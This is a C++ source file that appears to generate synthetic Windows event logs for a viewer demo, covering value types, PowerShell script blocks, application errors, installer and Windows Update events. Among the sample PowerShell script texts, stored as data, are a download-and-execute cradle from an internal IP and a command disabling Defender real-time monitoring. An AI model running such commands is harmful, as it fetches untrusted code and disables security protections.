// Application-side events: one carrying every value type and array shape
// (plus CDATA, character and entity references), PowerShell script blocks
// (verbose), application errors with positional data, an installer event
// whose Data is a string array, and Windows Update events whose UserData is
// a plain nested BinXML element tree (no template).
#include "demo/demo_context.hpp"

namespace evtx::writer::demo {
namespace {

// Several draws in one expression would be evaluated in an unspecified
// order; one statement per draw keeps the output the same everywhere.
std::string domainSid(Rng& r) {
    const uint64_t a = r.range(1000000, 4000000000), b = r.range(1000000, 4000000000);
    const uint64_t rid = r.range(1100, 1999);
    return "S-1-5-21-" + std::to_string(a) + "-" + std::to_string(b) + "-" + std::to_string(rid);
}

EventKind everyType() {
    const std::vector<std::pair<std::string, uint8_t>> scalars = {
        {"Int8", vt::Int8},         {"UInt8", vt::UInt8},        {"Int16", vt::Int16},
        {"UInt16", vt::UInt16},     {"Int32", vt::Int32},        {"UInt32", vt::UInt32},
        {"Int64", vt::Int64},       {"UInt64", vt::UInt64},      {"Real32", vt::Real32},
        {"Real64", vt::Real64},     {"Bool", vt::Bool},          {"Binary", vt::Binary},
        {"Guid", vt::Guid},         {"SizeT", vt::SizeT},        {"SizeT32", vt::SizeT},
        {"FileTime", vt::FileTime}, {"SystemTime", vt::SysTime}, {"Sid", vt::Sid},
        {"HexInt32", vt::HexInt32}, {"HexInt64", vt::HexInt64},  {"Ansi", vt::AnsiString},
        {"Text", vt::String},
    };
    const std::vector<std::pair<std::string, uint8_t>> arrays = {
        {"Names", vt::String},   {"Ports", vt::UInt16},   {"Offsets", vt::Int8},
        {"Flags", vt::HexInt32}, {"Sids", vt::Sid},       {"Ids", vt::Guid},
        {"Sizes", vt::SizeT},    {"Times", vt::FileTime}, {"Ratios", vt::Real64},
    };
    std::vector<Node> data;
    uint16_t i = kData;
    for (const auto& [name, type] : scalars)
        data.push_back(::evtx::writer::demo::data(name, i++, type));
    for (const auto& [name, type] : arrays)
        data.push_back(::evtx::writer::demo::data(name, i++, uint8_t(type | vt::ArrayFlag)));
    data.push_back(::evtx::writer::demo::data("Missing", i++, vt::String, true));
    const uint16_t message = i;
    auto t =
        makeTemplate(Guid::parse("D3E0F00D-0000-4E11-8C5A-3B7E1D000001"),
                     eventElement({el("EventData", {}, std::move(data)),
                                   el("RenderingInfo", {attr("Culture", text("en-US"))},
                                      {el("Message", {},
                                          {text("Value check "), entityRef("amp"), text(" arrays "),
                                           cdata("<raw & unescaped>"), text(" "), charRef(169),
                                           text(" "), sub(message, vt::String)})})}));
    return {"demo every type", 6, [t](Context& ctx) {
                const uint8_t level = uint8_t(ctx.rng.range(1, 5));
                SystemFields f =
                    baseSystem(ctx, "EvtxView-Demo", "D3E0F00D-0000-4E11-8C5A-3B7E1D000000",
                               uint16_t(100 + level), "Application", level);
                f.task = uint16_t(ctx.rng.range(1, 3));
                f.opcode = uint8_t(ctx.rng.range(0, 2));
                f.keywords = 0x0080000000000000ull | ctx.rng.below(16);
                f.activityId = ctx.rng.guid();
                f.userSid = ctx.host->userSid;
                Rng& r = ctx.rng;
                std::vector<Value> v = systemValues(f);
                for (Value x : {
                         Value::i8(int8_t(r.next())),
                         Value::u8(uint8_t(r.next())),
                         Value::i16(int16_t(r.next())),
                         Value::u16(uint16_t(r.next())),
                         Value::i32(int32_t(r.next())),
                         Value::u32(uint32_t(r.next())),
                         Value::i64(int64_t(r.next())),
                         Value::u64(r.next()),
                         Value::real32(float(r.below(100000)) / 64.0f),
                         Value::real64(double(r.below(10000000)) / 1000.0 - 5000.0),
                         Value::boolean(r.chance(50)),
                         Value::binary(r.bytes(r.range(1, 24))),
                         Value::guid(r.guid()),
                         Value::sizeT(r.next() >> r.below(64)),
                         Value::sizeT(r.next() >> 40, false),
                         Value::fileTime(f.timeCreated - r.below(1ull << 40)),
                         Value::systemTime(systemTimeFromFileTime(f.timeCreated)),
                         Value::sid(domainSid(r)),
                         Value::hex32(uint32_t(r.next())),
                         Value::hex64(r.next()),
                         Value::ansi(r.chance(50) ? "caf\xe9 \x80 5" : "plain ansi"),
                         Value::string(r.chance(50) ? "quotes \"x\" <y> & 'z'"
                                                    : "Grüße, 世界 \xF0\x9F\x98\x80"),
                         Value::stringArray({"alpha", "", "gamma & delta"}),
                         Value::array({Value::u16(80), Value::u16(443),
                                       Value::u16(uint16_t(r.range(1024, 65535)))}),
                         Value::array({Value::i8(-128), Value::i8(0), Value::i8(127)}),
                         Value::array({Value::hex32(0x10), Value::hex32(uint32_t(r.next()))}),
                         Value::array({Value::sid("S-1-5-18"), Value::sid("S-1-5-32-544")}),
                         Value::array({Value::guid(r.guid()), Value::guid(r.guid())}),
                         Value::array({Value::sizeT(4096), Value::sizeT(r.next() >> 20)}),
                         Value::array(
                             {Value::fileTime(f.timeCreated), Value::fileTime(f.timeCreated / 2)}),
                         Value::array(
                             {Value::real64(0.5), Value::real64(-1e-3), Value::real64(12345.678)}),
                         Value::null(),
                         Value::string("record " + std::to_string(f.recordId)),
                     })
                    v.push_back(x);
                return Generated{{t, std::move(v)}, f};
            }};
}

EventKind scriptBlock() {
    auto t = makeTemplate(Guid::parse("D3E0F00D-4104-4E11-8C5A-3B7E1D004104"),
                          eventElement({eventData({{"MessageNumber", vt::Int32},
                                                   {"MessageTotal", vt::Int32},
                                                   {"ScriptBlockText", vt::String},
                                                   {"ScriptBlockId", vt::Guid},
                                                   {"Path", vt::String}})}));
    return {"4104 powershell", 5, [t](Context& ctx) {
                SystemFields f = baseSystem(
                    ctx, "Microsoft-Windows-PowerShell", "A0C1853B-5C40-4B15-8766-3CF1C58F985A",
                    4104, "Microsoft-Windows-PowerShell/Operational", ctx.rng.chance(80) ? 5 : 3);
                f.version = 1;
                f.task = 2;
                f.opcode = 15;
                f.keywords = 0x0;
                f.activityId = ctx.rng.guid();
                f.userSid = ctx.host->userSid;
                const std::vector<std::string> scripts = {
                    "Get-ChildItem -Path C:\\Users -Recurse | Where-Object { $_.Length -gt 1MB }",
                    "$wc = New-Object Net.WebClient; $wc.DownloadString(\"http://10.0.0.5/a.ps1\") "
                    "| IEX",
                    "function Test-Port { param($h, $p) (New-Object "
                    "Net.Sockets.TcpClient).Connect($h, $p) }\n"
                    "Test-Port -h 'fileserver01' -p 445 # <check> & log",
                    "Set-MpPreference -DisableRealtimeMonitoring $true",
                };
                std::vector<Value> v = systemValues(f);
                for (Value x : {Value::i32(1), Value::i32(1), Value::string(ctx.rng.pick(scripts)),
                                Value::guid(ctx.rng.guid()),
                                Value::string(ctx.rng.chance(50) ? "" : "C:\\Scripts\\maint.ps1")})
                    v.push_back(x);
                return Generated{{t, std::move(v)}, f};
            }};
}

EventKind applicationError() {
    std::vector<Node> data;
    for (uint16_t i = 0; i < 12; ++i)
        data.push_back(el("Data", {}, {sub(uint16_t(kData + i), vt::String)}));
    data.push_back(el("Binary", {}, {sub(uint16_t(kData + 12), vt::Binary)}));
    auto t = makeTemplate(Guid::parse("D3E0F00D-1000-4E11-8C5A-3B7E1D001000"),
                          eventElement({el("EventData", {}, std::move(data))}));
    return {"1000 application error", 3, [t](Context& ctx) {
                SystemFields f =
                    baseSystem(ctx, "Application Error", "A0E9B465-B939-57D7-B27D-95D8E925FF57",
                               1000, "Application", 2);
                f.task = 100;
                f.qualifiers = 0;
                f.keywords = 0x80000000000000ull;
                const std::vector<std::string> apps = {"outlook.exe", "chrome.exe", "Teams.exe",
                                                       "java.exe"};
                std::vector<Value> v = systemValues(f);
                for (Value x :
                     {Value::string(ctx.rng.pick(apps)), Value::string("16.0.17328.20142"),
                      Value::string(ctx.rng.hex(4)), Value::string("KERNELBASE.dll"),
                      Value::string("10.0.19041.3996"), Value::string(ctx.rng.hex(4)),
                      Value::string("e0434352"), Value::string("0x" + ctx.rng.hex(8)),
                      Value::string(ctx.rng.hex(2)), Value::string("0x" + ctx.rng.hex(8)),
                      Value::string("C:\\Program Files\\App\\app.exe"), Value::string(""),
                      Value::binary({})})
                    v.push_back(x);
                return Generated{{t, std::move(v)}, f};
            }};
}

EventKind installer() {
    auto t = makeTemplate(
        Guid::parse("D3E0F00D-1170-4E11-8C5A-3B7E1D011707"),
        eventElement({el("EventData", {},
                         {el("Data", {}, {sub(kData, uint8_t(vt::String | vt::ArrayFlag))}),
                          el("Binary", {}, {sub(kData + 1, vt::Binary)})})}));
    return {"11707 installer", 2, [t](Context& ctx) {
                SystemFields f =
                    baseSystem(ctx, "MsiInstaller", "00000000-0000-0000-0000-000000000000", 11707,
                               "Application", 4);
                f.keywords = 0x80000000000000ull;
                f.userSid = ctx.host->userSid;
                const std::vector<std::string> products = {"7-Zip 23.01 (x64 edition)", "Git",
                                                           "Python 3.12.2"};
                std::vector<Value> v = systemValues(f);
                v.push_back(Value::stringArray({"Product: " + ctx.rng.pick(products) +
                                                    " -- Installation completed successfully.",
                                                "(NULL)", "", "(NULL)"}));
                v.push_back(Value::binary({'{', '2', '3', '1', '7', '0', 'F', '6', '9', '}'}));
                return Generated{{t, std::move(v)}, f};
            }};
}

EventKind windowsUpdate() {
    auto t = makeTemplate(Guid::parse("D3E0F00D-0019-4E11-8C5A-3B7E1D000019"),
                          eventElement({el("UserData", {}, {sub(kData, vt::BinXml)})}));
    return {"19 windows update", 3, [t](Context& ctx) {
                const bool failed = ctx.rng.chance(25);
                SystemFields f = baseSystem(ctx, "Microsoft-Windows-WindowsUpdateClient",
                                            "945A8954-C147-4ACD-923F-40C45405A658",
                                            failed ? 20 : 19, "Setup", failed ? 2 : 4);
                f.version = 1;
                f.task = 1;
                f.opcode = 13;
                f.keywords = 0x8000000000000018ull;
                f.userSid = "S-1-5-18";
                const std::string kb = "KB50" + std::to_string(ctx.rng.range(10000, 39999));
                // A plain element tree: static text only, names inline in the value.
                Node tree =
                    el("UpdateInfo", {attr("xmlns", text("http://manifests.example.com/wu"))},
                       {el("Title", {}, {text("Security Update for Windows (" + kb + ")")}),
                        el("UpdateGuid", {}, {text("{" + std::string(ctx.rng.hex(4)) + "-0000}")}),
                        el("Result", {attr("Code", text(failed ? "0x80240022" : "0x0"))}),
                        el("Empty")});
                std::vector<Value> v = systemValues(f);
                v.push_back(Value::binXml(tree));
                return Generated{{t, std::move(v)}, f};
            }};
}

} // namespace

std::vector<EventKind> applicationKinds() {
    return {everyType(), scriptBlock(), applicationError(), installer(), windowsUpdate()};
}

} // namespace evtx::writer::demo
